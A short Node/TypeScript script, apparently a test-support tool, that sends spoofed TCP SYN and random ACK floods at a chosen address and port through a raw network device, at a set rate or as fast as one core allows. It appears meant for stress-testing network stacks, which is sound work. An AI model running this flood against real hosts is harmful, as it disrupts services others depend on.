// `node syn-flood.js DEVICE FROM-MAC TO-MAC ADDRESS PORT KINDS PER-SECOND SECONDS`: spoofed SYNs, random ACKs, or both in turn
// (`syn`, `ack`, `syn,ack`), as many per second as are said, or as one core can (`Infinity`). Says `flooding` when it begins, and
// prints { sent, seconds } when the time is over.

import { FrameBlaster } from '../../support/frame-blaster.js';
import { Random } from '../../support/random.js';
import { type SpoofedKind, SpoofedSegments } from '../../support/spoofed-segments.js';

const BATCH = 64;

const [device = '', from = '', to = '', address = '', port, kinds = '', perSecond, seconds] =
  process.argv.slice(2);

const random = new Random(process.pid);
const target = { address, port: Number(port), macs: { from, to } };
const sources = kinds.split(',').map((kind) => new SpoofedSegments(kind as SpoofedKind, target, random));
const sourceOf = (i: number) => sources[i % sources.length]!;

const blaster = new FrameBlaster(
  device,
  Array.from({ length: BATCH }, (_, i) => sourceOf(i).template),
);
console.log('flooding');
const result = blaster.blast({ perSecond: Number(perSecond), seconds: Number(seconds) }, () => {
  for (let i = 0; i < BATCH; i++) sourceOf(i).renew(blaster.view, blaster.offset(i));
});
console.log(JSON.stringify(result));
